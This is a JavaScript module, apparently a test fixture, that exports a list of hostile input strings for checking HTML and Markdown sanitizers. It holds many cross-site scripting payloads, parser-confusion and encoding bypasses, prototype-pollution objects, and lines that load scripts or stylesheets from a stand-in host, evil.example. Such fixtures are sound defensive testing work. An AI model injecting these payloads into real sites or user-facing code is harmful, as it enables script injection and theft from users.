/**
 * Hostile user content from lists of evasions, sanitizer bypasses and parser confusions. Some
 * break out of JSON in a page. One line each; no NUL, which text columns reject.
 */
const lines = String.raw`
<script>alert(1)</script>
</script><script>alert(1)</script>
</ScRiPt ><img src=x onerror=alert(1)>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
<script/src=//evil.example/x.js>
<script>/*<!--*/alert(1)//--></script>
<!--<script>alert(1)</script>-->
<!--><img src=x onerror=alert(1)>-->
<!--!><img src=x onerror=alert(1)>
--><script>alert(1)</script>
<!-- <script
<!--<script>
]]><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<?xml version="1.0"?><script>alert(1)</script>
<% alert(1) %>
{{constructor.constructor('alert(1)')()}}
$\{alert(1)}
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'//
<img """><script>alert(1)</script>">
<img src="x:x" onerror="alert(1)" style="display:none">
<img/src=x/onerror=alert(1)>
<img src=javascript:alert(1)>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>
<svg onload=alert(1)>
<svg/onload=alert(1)//
<svg><script>alert(1)</script></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt\
&lt;img src=1 onerror=alert(1)&gt;">
<math><mi//xlink:href="data:x,<script>alert(1)</script>">
<math href="javascript:alert(1)">x</math>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
<noembed><img title="</noembed><img src=1 onerror=alert(1)>"></noembed>
<xmp><p title="</xmp><svg/onload=alert(1)>"></xmp>
<plaintext><script>alert(1)</script>
<title><img title="</title><img src=x onerror=alert(1)>"></title>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
<textarea autofocus onfocus=alert(1)>
<template><img src=x onerror=alert(1)></template>
<style>@import'//evil.example/x.css';</style>
</style><script>alert(1)</script>
<link rel=stylesheet href=//evil.example/x.css>
<base href=//evil.example/>
<meta http-equiv=refresh content="0;url=javascript:alert(1)">
<meta charset=utf-7>+ADw-script+AD4-alert(1)+ADw-/script+AD4-
<iframe src=javascript:alert(1)>
<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">
<object data=javascript:alert(1)>
<embed src=javascript:alert(1)>
<body onload=alert(1)>
</body></html><script>alert(1)</script>
<html onclick=alert(1)>
<input autofocus onfocus=alert(1)>
<select autofocus onfocus=alert(1)>
<details open ontoggle=alert(1)>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<marquee onstart=alert(1)>
<button formaction=javascript:alert(1)>x
<form action=javascript:alert(1)><input type=submit>
<isindex type=image src=1 onerror=alert(1)>
<a href=javascript:alert(1)>x</a>
<a href="jav&#x09;ascript:alert(1)">x</a>
<a href=" &#14; javascript:alert(1)">x</a>
<a href="data:text/html,<script>alert(1)</script>">x</a>
<a href="//evil.example">x</a>
<a onmouseover=alert(1)>x</a>
<p style="x:expression(alert(1))">x</p>
<div style=background:url(javascript:alert(1))>
<x onclick=alert(1) contenteditable autofocus onfocus=alert(1)>
<custom-element onclick=alert(1)>
<table background=javascript:alert(1)>
<keygen autofocus onfocus=alert(1)>
" onmouseover="alert(1)
' onmouseover='alert(1)
"><script>alert(1)</script>
'><script>alert(1)</script>
"><img src=x onerror=alert(1)>
" autofocus onfocus="alert(1)" x="
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&#x3c;img src=x onerror=alert(1)&#x3e;
&amp;lt;script&amp;gt;
%3Cscript%3Ealert(1)%3C/script%3E
\u003cscript\u003ealert(1)\u003c/script\u003e
\x3cscript\x3ealert(1)\x3c/script\x3e
\"};alert(1);//
";alert(1);//
'-alert(1)-'
\';alert(1);//
\\
\\";alert(1)//
{"__proto__":{"polluted":true}}
__proto__
constructor.prototype
[x](javascript:alert(1))
[x](JaVaScRiPt:alert(1))
[x](javascript&colon;alert(1))
[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[x](vbscript:msgbox(1))
[x]( javascript:alert(1) "t")
[x](<javascript:alert(1)>)
[x](//evil.example/x)
[x](/\evil.example)
[x](https://ok.example/"onmouseover="alert(1))
[x](https://ok.example/ "t\" onmouseover=alert(1)")
![x](javascript:alert(1))
![x](https://evil.example/x.png" onerror="alert(1))
![x](data:image/svg+xml;base64,PHN2Zz4=)
<javascript:alert(1)>
<https://ok.example/"><img/src=x/onerror=alert(1)>
[a]: javascript:alert(1) [a]
**<script>alert(1)</script>**
§§<script>alert(1)</script>§§
> <img src=x onerror=alert(1)>
# <svg onload=alert(1)>
- <iframe src=javascript:alert(1)>
`
  .replaceAll('§', '`')
  .trim()
  .split('\n');

const unseen = [
  '\u2028</script>\u2029<script>alert(1)</script>',
  'line\u2028separator\u2029here',
  'x\uFEFF<script>alert(1)</script>',
  '<scr\u200Bipt>alert(1)</scr\u200Bipt>',
  '\u202E<script>tpircs<\u202C',
  '\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E',
  '<\u0009script>alert(1)</script>',
  '<img\u000Csrc=x\u000Conerror=alert(1)>',
  '\u{1F600}</script><!--\u{1F600}',
  'e\u0301<b>',
  '\u00A0<a\u00A0href=javascript:alert(1)>',
];

export const hostile: readonly string[] = [...lines, ...unseen];
